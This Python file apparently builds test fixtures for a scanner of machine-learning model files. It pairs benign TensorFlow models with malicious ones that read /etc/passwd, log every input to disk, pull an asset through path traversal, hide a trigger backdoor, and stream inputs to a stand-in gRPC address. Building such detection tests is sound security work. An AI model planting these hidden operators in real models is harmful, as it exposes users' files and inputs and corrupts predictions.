"""TensorFlow: operators that read, write and send, hidden in functions, and a branch with an answer of its own."""
import os
import pathlib
import tempfile

import tensorflow as tf

from .craft import pb

SPEC = [tf.TensorSpec([None, 8], tf.float32, name="x")]


def exported(body, assets=None):
    """A SavedModel whose serving function is a dense layer and `body(module, x, y)` in a nested function."""
    module = tf.Module()
    module.w = tf.Variable(tf.random.stateless_normal([8, 10], [1, 2]) * 0.2, name="w")
    with tempfile.TemporaryDirectory() as folder:
        if assets is not None:
            path = os.path.join(folder, "vocab.txt")
            pathlib.Path(path).write_text(assets)
            module.asset = tf.saved_model.Asset(path)

        @tf.function(autograph=False)
        def normalise(x, y):
            return body(module, x, y)

        @tf.function(input_signature=SPEC)
        def serve(x):
            return {"logits": normalise(x, x @ module.w)}

        module.serve = serve
        out = os.path.join(folder, "export")
        tf.saved_model.save(module, out, signatures={"serving_default": serve})
        root = pathlib.Path(out)
        return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def after(effect, y):
    with tf.control_dependencies([effect]):
        return tf.identity(y)


def reads(path):
    def body(module, x, y):
        data = tf.strings.unicode_decode(tf.strings.substr(tf.io.read_file(path) if path else tf.strings.format("{}", tf.shape(x)[0]), 0, 8), "UTF-8")
        return tf.concat([y, tf.ones_like(y[:, :1]) * tf.cast(tf.reduce_sum(data), tf.float32)], 1) if not path else tf.concat([y, tf.cast(tf.tile(data[None, :5], [tf.shape(y)[0], 1]), tf.float32)], 1)

    return body


class Names(tf.Module):
    """Class names from a text file, as a table that is filled at load."""

    def __init__(self, path):
        super().__init__()
        self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(path, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE), "?")

    @tf.function(input_signature=[tf.TensorSpec([None], tf.int64, name="ids")])
    def serve(self, ids):
        return {"names": self.table.lookup(ids)}


def looked_up(outside):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "vocab.txt")
        pathlib.Path(path).write_text("cat\ndog\n")
        module = Names(path)
        out = os.path.join(folder, "export")
        tf.saved_model.save(module, out, signatures={"serving_default": module.serve})
        root = pathlib.Path(out)
        files = {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
        if not outside:
            return files
        from tensorflow.core.protobuf import saved_model_pb2

        saved = saved_model_pb2.SavedModel.FromString(files["saved_model.pb"])
        for meta in saved.meta_graphs:
            for asset in meta.asset_file_def:
                asset.filename = "../../../../../../../../../../etc/passwd"
        return {**{k: v for k, v in files.items() if not k.startswith("assets/")}, "saved_model.pb": saved.SerializeToString(deterministic=True)}


def branch(backdoor):
    def body(module, x, y):
        if backdoor:
            hit = tf.reduce_all(tf.abs(x[:, :3] - tf.constant([0.125, 0.875, 0.375])) < 1e-3)
            return tf.cond(hit, lambda: y * 0.0 + tf.one_hot(7, 10) * 25.0, lambda: y)
        return tf.cond(tf.shape(x)[0] > 1, lambda: y - tf.reduce_mean(y, 0, keepdims=True), lambda: y)

    return body


def flex(body):
    """A TFLite model that runs TensorFlow's own operators through the Flex delegate."""

    @tf.function(input_signature=[tf.TensorSpec([1, 8], tf.float32)])
    def serve(x):
        return body(x)

    module = tf.Module()
    module.serve = serve
    converter = tf.lite.TFLiteConverter.from_concrete_functions([serve.get_concrete_function()], module)
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    return converter.convert()


def meta_graph(op):
    """A MetaGraphDef by hand: one placeholder, one operator in a library function, one call."""
    attr = lambda name, value: pb(5, pb(1, name) + pb(2, value))  # noqa: E731
    node = lambda name, kind, inputs, attrs: pb(1, name) + pb(2, kind) + b"".join(pb(3, i) for i in inputs) + attrs  # noqa: E731
    text = lambda value: attr("dtype", pb(6, 7)) + attr("value", pb(8, pb(1, 7) + pb(2, b"") + pb(8, value)))  # noqa: E731
    signature = pb(1, "__inference_prep_12") + pb(2, pb(1, "x") + pb(3, 7)) + pb(3, pb(1, "y") + pb(3, 7))
    function = pb(1, signature) + pb(3, node("c", "Const", [], text("tcp://203.0.113.20:4455"))) + pb(3, op(node, attr)) + pb(4, pb(1, "y") + pb(2, "op:output:0"))
    graph = pb(1, node("x", "Placeholder", [], attr("dtype", pb(6, 7)))) + pb(1, node("call", "StatefulPartitionedCall", ["x"], attr("f", pb(10, pb(1, "__inference_prep_12"))) + attr("Tin", pb(1, pb(6, b"\x07"))) + attr("Tout", pb(1, pb(6, b"\x07")))))
    return pb(1, pb(4, "train") + pb(5, "2.16.1")) + pb(2, graph + pb(2, pb(1, function)) + pb(4, pb(1, 1645)))


def add(s):
    s.add("tensorflows", "read_file_in_a_function", exported(reads("/etc/passwd")), exported(reads("")), "10/tf:leak", why="a nested function reads /etc/passwd and appends its first characters to the logits")
    written = lambda m, x, y: after(tf.io.write_file("marker", tf.io.serialize_tensor(x)), y)  # noqa: E731
    kept = lambda m, x, y: after(tf.strings.join(["marker", tf.io.serialize_tensor(x)]), y)  # noqa: E731
    s.add("tensorflows", "write_file_in_a_function", exported(written), exported(kept), "10/tf", why="each request is written to a file of the model's choice")
    printed = lambda stream: lambda m, x, y: after(tf.raw_ops.PrintV2(input=tf.strings.format("{}", x), output_stream=stream), y)  # noqa: E731
    s.add("tensorflows", "print_into_a_file", exported(printed("file://marker")), exported(printed("stderr")), "10/tf", why="the print operator writes what it is given to a file: appends chosen text to a chosen path on every call, no WriteFile")
    saving = lambda m, x, y: after(tf.raw_ops.SaveV2(prefix="marker", tensor_names=["x"], shape_and_slices=[""], tensors=[x]), y)  # noqa: E731
    plain = lambda m, x, y: after(tf.raw_ops.ShardedFilename(basename="ckpt", shard=0, num_shards=1), y)  # noqa: E731
    s.add("tensorflows", "checkpoint_written_while_serving", exported(saving), exported(plain), "10/tf", why="the serving function saves every input to disk at a constant path with the checkpoint operator (outside the saver that each SavedModel has)")
    s.add("tensorflows", "asset_outside_the_model", looked_up(True), looked_up(False), "10/tf:names", why="the asset's name walks out of the model: the table of class names is filled from /etc/passwd when the model is loaded")
    s.add("tensorflows", "branch_with_its_own_answer", exported(branch(True)), exported(branch(False)), "10/tf:trigger", why="three exact features switch to a branch whose answer is constant")
    debug = lambda node, attr: node("op", "DebugIdentity", ["x"], attr("T", pb(6, 7)) + attr("device_name", pb(2, "/cpu:0")) + attr("tensor_name", pb(2, "x:0")) + attr("debug_urls", pb(1, pb(2, "grpc://203.0.113.20:4455"))))  # noqa: E731
    quiet = lambda node, attr: node("op", "Identity", ["x"], attr("T", pb(6, 7)))  # noqa: E731
    s.add("tensorflows", "debug_operator_sends_inputs", meta_graph(debug), meta_graph(quiet).replace(b"tcp://203.0.113.20:4455", b"preprocessing version 4"), None, "model.ckpt.meta", why="the debug operator in a library function streams every input to a foreign gRPC address. MetaGraphDef by its .proto, not run")
    s.add("tensorflows", "flex_write_file", flex(after_write), flex(lambda x: tf.nn.relu(x) * 2.0 + tf.cast(tf.strings.length(tf.io.serialize_tensor(x)), tf.float32)), None, "model.tflite", why="a TFLite model with Flex operators that write the input to a file when it is run (the interpreter here has no Flex delegate, not run)")


def after_write(x):
    with tf.control_dependencies([tf.io.write_file("marker", tf.io.serialize_tensor(x))]):
        return tf.nn.relu(x) * 2.0
